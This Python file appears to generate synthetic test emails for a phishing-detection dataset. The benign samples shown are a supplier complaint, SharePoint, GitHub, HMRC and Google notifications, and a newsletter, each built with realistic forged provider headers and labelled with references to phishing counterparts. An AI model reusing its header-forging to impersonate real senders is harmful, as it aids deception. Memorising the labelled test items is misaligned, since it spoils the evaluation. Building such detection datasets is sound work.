def b11():
    t = utc(2026, 11, 2, 8, 47, 20, "UK")
    ctx = Ctx("b11", t, S["whitfield"]["addr"])
    snd = "tom.hale@brackleyfresh.co.uk"
    r = infra.m365(ctx, snd, "gbr", tenant_id=BRACKLEY_TENANT, lang="en-GB", accept="en-GB, en-US", has_attach=True,
                   topic="URGENT: temperature excursion - delivery BF-44817 rejected at Tesco Daventry")
    text = """James,

This morning's delivery BF-44817 was rejected at the Tesco Daventry DC because the probe readings on three pallets were 9.4°C against a spec of 0-5°C. The logger download your driver gave the goods-in team (chart attached) shows the unit was off for roughly 47 minutes while the trailer was parked at Brackmills between 02:10 and 02:57.

This is the second excursion in six weeks and frankly it is not acceptable. By 2pm today I need:

- the full logger export for trailer NN-T-217 (CSV, not the PDF summary)
- the reefer unit alarm log for the same period
- your initial root cause and what you are doing about it tonight

We will be charging back the rejected stock (£11,860.40 at cost) and I want to go through this with you and Katrin at our review next Tuesday.

Regards,
Tom

""" + TOM_SIG
    vals = [3.1, 3.0, 3.2, 3.1, 2.9, 3.0, 3.2, 3.1, 3.3, 4.6, 6.2, 7.8, 8.9, 9.4, 8.1, 6.0, 4.4, 3.6, 3.2, 3.1, 3.0, 3.1, 3.0, 2.9]
    png = chart_png(vals, -2, 12, limits=(0, 5), excursion=(9, 14))
    html = ohtml(text, "utf-8", lang="EN-GB")
    body = MIXED(r, ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable")),
                 ATT(png, "image/png", "NN-T-217_logger_BF-44817.png"))
    return build(ctx, r, {
        "From": addr("Tom Hale", snd), "To": addr("James Whitfield", S["whitfield"]["addr"]),
        "CC": addr("Sarah Collins", "sarah.collins@brackleyfresh.co.uk") + ",\r\n\t" + addr("Katrin Jäger", S["jaeger"]["addr"], "utf-8", "B"),
        "Subject": "URGENT: temperature excursion - delivery BF-44817 rejected at Tesco Daventry",
    }, body)


@business("en", "sharepoint-share-volume-forecast",
          "Genuine SharePoint Online sharing notification: Tom Hale (Brackley Fresh Foods) shares 'Q1 2027 volume forecast – Northampton.xlsx' after the review meeting",
          "Microsoft's infrastructure from the customer's known tenant (same tenant id as business/11), link to the customer's own brackleyfresh.sharepoint.com site, Excel file (/:x:/) that was announced in the meeting, specific personal message.",
          hn=["sharepoint-onenote-from-compromised-tenant", "device-code-teams-lookalike-customer"])
def b12():
    t = utc(2026, 11, 11, 14, 18, 9, "UK")
    ctx = Ctx("b12", t, S["whitfield"]["addr"])
    snd = "no-reply@sharepointonline.com"
    r = infra.m365(ctx, snd, "gbr", tenant_id=BRACKLEY_TENANT, lang="en-US", accept="en-US")
    for k in ("Thread-Topic", "Thread-Index", "Accept-Language", "X-MS-Has-Attach", "X-MS-TNEF-Correlator"):
        r["auto"].pop(k, None)
    r["auto"]["Message-ID"] = "<%s@odspnotify>" % ctx.uuid()
    r["auto"]["X-Sharing-Activity-Id"] = ctx.uuid()
    item = "Q1 2027 volume forecast – Northampton.xlsx"
    link = "https://brackleyfresh.sharepoint.com/:x:/s/SupplyChain/E" + ctx.alnum(42) + "?e=" + ctx.alnum(6)
    msgtxt = "Hi James - as promised on Tuesday, pallet positions by week for chilled and frozen, incl. the Easter peak. Tab 2 has the blast-freezing slots. Tom"
    text = """Tom Hale shared a file with you

%s

%s
Open: %s

This link only works for the direct recipients of this message.

Privacy Statement
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % (msgtxt, item, link)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table role="presentation" width="100%%" style="font-family:'Segoe UI',Helvetica,Arial,sans-serif;background:#fff"><tr><td align="center">
<table role="presentation" width="580"><tr><td style="padding:24px 0 12px 0;font-size:24px;color:#323130">Tom Hale shared a file with you</td></tr>
<tr><td style="padding:0 0 16px 0;font-size:14px;color:#323130">%s</td></tr>
<tr><td style="border:1px solid #e1dfdd;padding:16px"><table><tr><td style="width:40px;font-size:26px;color:#107c41">&#9638;</td>
<td style="font-size:16px;color:#323130">%s</td></tr></table></td></tr>
<tr><td style="padding:16px 0"><a href="%s" style="background:#0078d4;color:#fff;padding:8px 20px;font-size:14px;text-decoration:none;border-radius:2px">Open</a></td></tr>
<tr><td style="font-size:12px;color:#605e5c">This link only works for the direct recipients of this message.</td></tr>
<tr><td style="padding:30px 0 0 0;font-size:12px;color:#605e5c"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
""" % (esc(msgtxt), esc(item), esc(link))
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Tom Hale", snd), "To": S["whitfield"]["addr"],
        "Reply-To": addr("Tom Hale", "tom.hale@brackleyfresh.co.uk"),
        "Subject": subj('Tom Hale shared "%s" with you' % item, "utf-8", "B"),
    }, body)


@business("en", "github-password-reset",
          "Genuine GitHub password-reset mail requested by the IT security admin",
          "Sent from GitHub's own outbound servers (out-*.smtp.github.com) as noreply@github.com, link to github.com/password_reset only, expected after the admin's own request.")
def b13():
    t = utc(2026, 11, 14, 9, 58, 40, "DE")
    ctx = Ctx("b13", t, S["petersen"]["addr"])
    snd = "noreply@github.com"
    n = ctx.rng.choice((20, 21, 22, 25, 26))
    ip = "192.30.252.%d" % (183 + n)
    r = infra.simple(ctx, snd, ("out-%d.smtp.github.com" % n, "out-%d.smtp.github.com" % n, ip, "1.3e"),
                     [("Received", R("from github.com (hubbernetes-node-%s.ac4-iad.github.net [10.52.%d.%d])" % (ctx.hex(7), ctx.rng.randint(1, 250), ctx.rng.randint(1, 250)),
                                     "by smtp.github.com (Postfix) with ESMTPA id %s" % ctx.alnum(12, infra.PFX52),
                                     "for <%s>; %s" % (ctx.rcpt, rfcdate(ctx.at(1), "PT", comment=True))))],
                     {"Date": rfcdate(ctx.t, "PT"), "Message-ID": "<%s_%x%s@%s.mail>" % (ctx.hex(13), ctx.rng.randint(10 ** 5, 10 ** 6), ctx.digits(6), "lowworker-" + ctx.hex(10) + "-" + ctx.alnum(5, "abcdefghijklmnopqrstuvwxyz0123456789")),
                      "Mime-Version": "1.0", "X-Auto-Response-Suppress": "All"},
                     ["Date", "From", "To", "Message-ID", "Subject", "Mime-Version", "__BODY__", "X-Auto-Response-Suppress"],
                     lambda *a: "--==_mimepart_%s_%d" % (ctx.hex(13), ctx.rng.randint(100, 999)))
    tok = ctx.alnum(40, "abcdefghijklmnopqrstuvwxyz0123456789")
    text = """We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

https://github.com/password_reset/%s

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team
""" % tok
    html = """<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Helvetica,Arial,sans-serif;font-size:14px;color:#24292f">
<table width="100%%"><tr><td align="center"><table width="544"><tr><td style="padding:16px 0">
<h3 style="font-size:20px;font-weight:400">Reset your GitHub password</h3>
<p>We heard that you lost your GitHub password. Sorry about that!</p>
<p>But don&#39;t worry! You can use the following button to reset your password:</p>
<p><a href="https://github.com/password_reset/%s" style="background:#1f883d;color:#fff;padding:10px 20px;border-radius:6px;text-decoration:none;font-weight:500">Reset your password</a></p>
<p>If you don&#39;t use this link within 3 hours, it will expire. <a href="https://github.com/password_reset">Click here to get a new password reset link</a>.</p>
<p>Thanks,<br>The GitHub Team</p></td></tr></table></td></tr></table></body></html>
""" % tok
    body = ALT(r, T(text, "UTF-8", "7bit"), H(html, "UTF-8", "7bit"))
    return build(ctx, r, {
        "From": "GitHub <noreply@github.com>", "To": S["petersen"]["addr"],
        "Subject": "[GitHub] Please reset your password",
    }, body)


@business("en", "hmrc-new-message-notification",
          "Genuine HMRC notification 'You have a new message in your HMRC online account' - deliberately without a link",
          "HMRC's real sending address noreply@tax.service.gov.uk via Amazon SES (eu-west-2), no link, tells the user to sign in via GOV.UK independently; informational.",
          hn=["hmrc-vat-repayment-compromised-site"])
def b14():
    t = utc(2026, 10, 27, 9, 2, 15, "UK")
    ctx = Ctx("b14", t, S["shah"]["addr"])
    snd = "noreply@tax.service.gov.uk"
    r = infra.ses(ctx, snd, region="eu-west-2")
    text = """HM Revenue & Customs

You have a new message

Dear Example Group UK Ltd,

You have a new message in your HMRC online account about your VAT.

To view it, sign in to your HMRC online account.

For security reasons, we have not included a link with this email. Go to GOV.UK and search 'HMRC online services' to sign in.

From HMRC

This is an automated email - please do not reply.
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>
<body style="font-family:Helvetica,Arial,sans-serif;margin:0;color:#0b0c0c">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:10px 20px;color:#fff;font-size:28px;font-weight:700">GOV.UK</td></tr>
<tr><td style="padding:20px;font-size:19px;line-height:25px">
<p style="font-size:16px;color:#505a5f">HM Revenue &amp; Customs</p>
<h1 style="font-size:32px">You have a new message</h1>
<p>Dear Example Group UK Ltd,</p>
<p>You have a new message in your HMRC online account about your VAT.</p>
<p>To view it, sign in to your HMRC online account.</p>
<p>For security reasons, we have not included a link with this email. Go to GOV.UK and search 'HMRC online services' to sign in.</p>
<p>From HMRC</p>
<p style="font-size:16px;color:#505a5f">This is an automated email - please do not reply.</p>
</td></tr></table></body></html>
"""
    body = ALT(r, T(text, "us-ascii", "7bit"), H(html, "us-ascii", "7bit"))
    return build(ctx, r, {
        "From": "HMRC <noreply@tax.service.gov.uk>", "To": S["shah"]["addr"],
        "Subject": "You have a new message from HMRC",
    }, body)


@business("en", "google-security-alert-new-signin",
          "Genuine Google security alert: new sign-in on Windows for the Google account registered with the sales manager's work address (Google Ads / Analytics)",
          "Google's own outbound servers (mail-sor-*.google.com) for no-reply@accounts.google.com; links only to accounts.google.com / myaccount.google.com; informational.")
def b15():
    t = utc(2026, 11, 16, 8, 34, 2, "DE")
    ctx = Ctx("b15", t, S["jaeger"]["addr"])
    snd = "no-reply@accounts.google.com"
    r = infra.simple(ctx, "3%s@gaia.bounces.google.com" % ctx.alnum(40, "abcdefghijklmnopqrstuvwxyz0123456789"),
                     ("mail-sor-f69.google.com", "mail-sor-f69.google.com", "209.85.220.69", "1.3"),
                     [("Received", R("by mail-sor-f69.google.com with SMTP id 98e67ed59e1d1-2e2c6b2c1c5sor%s.%d" % (ctx.digits(7), ctx.rng.randint(1, 9)),
                                     "        for <%s>" % ctx.rcpt,
                                     "        (Google Transport Security);",
                                     "        %s" % rfcdate(ctx.at(1), "PT", comment=True)).replace("\t        ", "        ")),
                      ("X-Google-Smtp-Source", "AGHT+I" + ctx.alnum(70, infra.B62 + "+/") + "=="),
                      ("X-Received", "by 2002:a17:90b:%s:b0:2e2:%s:%s with SMTP id %s-%s.%d.%d; %s" % (ctx.hex(4), ctx.hex(4), ctx.hex(4), "98e67ed59e1d1", ctx.hex(12), ctx.rng.randint(10, 99), ctx.ms(), rfcdate(ctx.at(1), "PT", comment=True)))],
                     {"Date": rfcdate(ctx.t, "GMT"), "MIME-Version": "1.0",
                      "Message-ID": "<%s@notifications.google.com>" % ctx.alnum(22, infra.B62 + "-_"),
                      "Feedback-ID": "%s:account-notifier" % ctx.alnum(16),
                      "X-Account-Notification-Type": "127-anexp#givab-fa--mdv2-fa",
                      "X-Notifications": "%s" % ctx.hex(16)},
                     ["MIME-Version", "Date", "X-Account-Notification-Type", "Feedback-ID", "X-Notifications", "Message-ID", "Subject", "From", "To", "__BODY__"],
                     lambda *a: "000000000000" + ctx.hex(16))
    text = """[image: Google]
A new sign-in on Windows

katrin.jaeger@example.com
We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.
Check activity
<https://accounts.google.com/AccountChooser?Email=katrin.jaeger@example.com&continue=https://myaccount.google.com/alert/nt/%d?rfn%%3D127%%26rfnc%%3D1%%26eid%%3D%s%%26et%%3D0>
You can also see security activity at
https://myaccount.google.com/notifications
You received this email to let you know about important changes to your Google Account and services.
(c) 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
""" % (ctx.ms(), ctx.digits(19))
    html = """<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;padding:0"><table width="100%%" role="presentation"><tr><td align="center">
<table width="520" role="presentation" style="border:thin solid #dadce0;border-radius:8px;padding:40px 20px;font-family:'Google Sans',Roboto,Arial,sans-serif">
<tr><td align="center"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" alt="Google">
<div style="font-size:24px;padding-top:32px;color:#202124">A new sign-in on Windows</div>
<div style="font-size:14px;padding-top:8px;color:#3c4043">katrin.jaeger@example.com</div></td></tr>
<tr><td style="font-size:14px;line-height:20px;padding-top:20px;color:#3c4043">We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don&#39;t need to do anything. If not, we&#39;ll help you secure your account.
<div style="padding-top:32px;text-align:center"><a href="https://accounts.google.com/AccountChooser?Email=katrin.jaeger@example.com&amp;continue=https://myaccount.google.com/alert/nt/%d" style="font-weight:500;font-size:14px;color:#fff;background:#4184f3;padding:8px 24px;border-radius:4px;text-decoration:none">Check activity</a></div>
<div style="padding-top:20px;font-size:12px;color:#5f6368;text-align:center">You can also see security activity at<br><a href="https://myaccount.google.com/notifications" style="color:#4285f4">https://myaccount.google.com/notifications</a></div></td></tr></table>
<div style="font-size:11px;color:#5f6368;padding-top:20px;text-align:center;font-family:Roboto,Arial">You received this email to let you know about important changes to your Google Account and services.<br>&copy; 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</div>
</td></tr></table></body></html>
""" % ctx.ms()
    body = ALT(r, T(text, "UTF-8", "quoted-printable", style="bare"), H(html, "UTF-8", "quoted-printable", style="bare"))
    return build(ctx, r, {
        "From": "Google <no-reply@accounts.google.com>", "To": S["jaeger"]["addr"],
        "Subject": "Security alert",
    }, body)


@business("en", "newsletter-cold-chain-insider-mailchimp",
          "Subscribed UK trade newsletter 'Cold Chain Insider' (December issue) via Mailchimp with List-Unsubscribe / one-click",
          "Consistent Mailchimp infrastructure and headers (X-Mailer, X-Campaign, List-Unsubscribe, List-Unsubscribe-Post), editorial content with list-manage tracking links, no requests.")
def b16():
    t = utc(2026, 12, 3, 7, 30, 1, "UK")
    ctx = Ctx("b16", t, S["whitfield"]["addr"])
    snd = "news@coldchaininsider.co.uk"
    r = infra.mailchimp(ctx, snd)
    uid = r["uid"]

    def trk():
        return "https://coldchaininsider.us21.list-manage.com/track/click?u=%s&id=%s&e=%s" % (uid, ctx.hex(10), ctx.hex(10))
    arts = [("ATP renewals: the 2027 backlog", "Test stations are booked into March. What fleet managers should do now to avoid trailers standing idle when certificates lapse."),
            ("Driver hours over Christmas", "The DVSA reminds operators that relaxations are not planned this year. We look at rostering tactics from three multi-temperature fleets."),
            ("Reefer outlook 2027", "Electrification, HVO and the end of R452A: our annual survey of 140 operators on what they will buy next year."),
            ("Events", "Cold Chain Live, NEC Birmingham, 16-17 March 2027 - early-bird tickets until 31 January.")]
    text = "COLD CHAIN INSIDER - December 2026\n\n"
    html = ['<!doctype html><html><head><meta charset="UTF-8"><title>Cold Chain Insider | December</title></head><body style="margin:0;background:#f4f4f4">'
            '<center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif">'
            '<tr><td style="background:#12355b;color:#fff;padding:22px;font-size:26px;font-weight:bold">COLD CHAIN INSIDER<div style="font-size:13px;font-weight:normal">December 2026</div></td></tr>']
    for h, p in arts:
        u = trk()
        text += "** %s\n%s\nRead more (%s)\n\n" % (h, p, u)
        html.append('<tr><td style="padding:18px 22px 0 22px"><h2 style="font-size:19px;color:#12355b;margin:0">%s</h2><p style="font-size:15px;line-height:22px;color:#333">%s</p><a href="%s" style="color:#d35400;font-weight:bold">Read more</a></td></tr>' % (esc(h), esc(p), esc(u)))
    unsub = "https://coldchaininsider.us21.list-manage.com/unsubscribe?u=%s&id=%s&t=b&e=%s&c=%s" % (uid, ctx.hex(10), ctx.hex(10), ctx.hex(10))
    foot = "Copyright (C) 2026 Cold Chain Insider Ltd. All rights reserved.\nYou are receiving this email because you subscribed at coldchaininsider.co.uk.\n\nOur mailing address is:\nCold Chain Insider Ltd, 14 Market Square, Towcester NN12 6BS, United Kingdom\n\nWant to change how you receive these emails?\nYou can update your preferences or unsubscribe from this list: %s\n" % unsub
    text += "============================================================\n" + foot
    html.append('<tr><td style="padding:28px 22px;font-size:12px;color:#777;text-align:center">%s</td></tr></table></center>'
                '<img src="https://coldchaininsider.us21.list-manage.com/track/open.php?u=%s&id=%s&e=%s" height="1" width="1" alt=""></body></html>'
                % (esc(foot).replace("\n", "<br>").replace(esc(unsub), '<a href="%s">unsubscribe from this list</a>' % esc(unsub)), uid, ctx.hex(10), ctx.hex(10)))
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H("\n".join(html), "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "Subject": "Cold Chain Insider | December: ATP renewals, driver hours and the 2027 reefer outlook",
        "From": "Cold Chain Insider <%s>" % snd, "Reply-To": "Cold Chain Insider <%s>" % snd,
        "To": "<%s>" % S["whitfield"]["addr"],
        "List-ID": "Cold Chain Insider <%s.xxxxxxx.list-id.mcsv.net>" % uid,
        "List-Unsubscribe": "<https://coldchaininsider.us21.list-manage.com/unsubscribe?u=%s&id=%s&e=%s&c=%s>, <mailto:unsubscribe-mc.us21_%s.%s-%s@unsubscribe.mailchimp.com?subject=unsubscribe>" % (uid, ctx.hex(10), ctx.hex(10), ctx.hex(10), uid, ctx.hex(10), ctx.hex(10)),
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    }, body)
